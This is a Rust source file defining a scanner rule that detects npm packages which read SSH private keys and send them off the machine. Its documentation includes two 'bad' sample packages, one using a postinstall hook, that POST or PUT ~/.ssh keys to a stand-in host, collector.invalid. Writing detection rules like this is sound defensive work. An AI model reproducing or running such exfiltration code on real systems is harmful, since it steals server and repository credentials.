//! # SSH keys leave the machine
//!
//! What stands in the `.ssh` folder, or in a file named like a private key, reaches a request, a look-up or
//! a command that sends.
//!
//! ## Why it matters
//!
//! A private key opens servers and repositories until someone remembers to remove it.
//!
//! ## Known benign uses
//!
//! SSH clients read the key that a caller names and never send it. Nothing honest posts it.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! for (const name of ["id_rsa", "id_ed25519"]) {
//!   const file = path.join(os.homedir(), ".ssh", name);
//!   if (fs.existsSync(file)) fetch("https://collector.invalid/", { method: "POST", body: fs.readFileSync(file) }); //~ here
//! }
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { readFile } = require("node:fs/promises");
//! exports.check = async () => {
//!   const key = await readFile(`${process.env.HOME}/.ssh/id_ed25519`, "utf8");
//!   const socket = require("net").connect(9001, "collector.invalid");
//!   await fetch("https://collector.invalid/", { method: "PUT", body: key.trim() }); //~ here
//! };
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { readFileSync } = require("fs");
//! const { homedir } = require("os");
//! exports.hosts = () => readFileSync(homedir() + "/.ssh/config", "utf8").match(/^Host (.*)$/gm);
//! ```
//!
//! ## References
//!
//! - SafeDep: Polymarket squats (May 2026)

use crate::prelude::*;

/// SSH keys leave the machine.
pub struct SshKeySent;

impl Rule for SshKeySent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "ssh-key-sent",
            title: "SSH keys leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.004",
            covers: &["collect-ssh-keys", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(|source| matches!(source, Source::SecretFile(FileClass::SshKey)), Sink::leaves_machine)
            .filter(|flow| facts.goes_unsaid(flow))
        {
            found.flow(flow);
        }
    }
}
